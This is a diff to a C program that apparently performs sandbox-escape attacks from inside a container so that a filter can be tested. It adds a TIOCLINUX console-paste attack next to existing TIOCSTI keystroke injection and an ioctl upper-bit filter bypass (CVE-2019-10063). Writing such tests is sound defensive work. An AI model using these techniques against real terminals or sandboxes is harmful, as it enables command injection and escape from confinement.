@@ -1,6 +1,7 @@
 /* The attacks of a process in a container; the first argument selects one. Prints the data that a
  * successful attack has read. */
 #define _GNU_SOURCE
+#include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <stdio.h>
@@ -30,6 +31,14 @@ static int type(const char* text, unsigned long request_bits) {
     if (syscall(SYS_ioctl, 0, TIOCSTI | request_bits, text) != 0) return 1;
   }
   return 0;
+}
+
+/* Pastes the selection into the console that is standard input. Returns 3 if that is forbidden, and
+ * 1 if the kernel finds that the terminal is no console. */
+static int paste(void) {
+  char subcode = 3;
+  if (syscall(SYS_ioctl, 0, TIOCLINUX, &subcode) == 0) return 0;
+  return errno == EPERM ? 3 : 1;
 }
 
 static void write_file(const char* path, const char* text) {
@@ -66,7 +75,8 @@ int main(int argc, char** argv) {
   /* The kernel ignores the upper half of an ioctl's number, but a filter may not (CVE-2019-10063).
    */
   if (strcmp(attack, "type-high") == 0) return type(argument, 0x100000000UL);
+  if (strcmp(attack, "paste") == 0) return paste();
   if (strcmp(attack, "unshare") == 0 && argc > 3) return unshare_and_execute(argument, argv + 3);
-  fprintf(stderr, "attack: unshare TYPES COMMAND..., key NAME, type TEXT, type-high TEXT\n");
+  fprintf(stderr, "attack: unshare TYPES COMMAND..., key NAME, type TEXT, type-high TEXT, paste\n");
   return 2;
 }
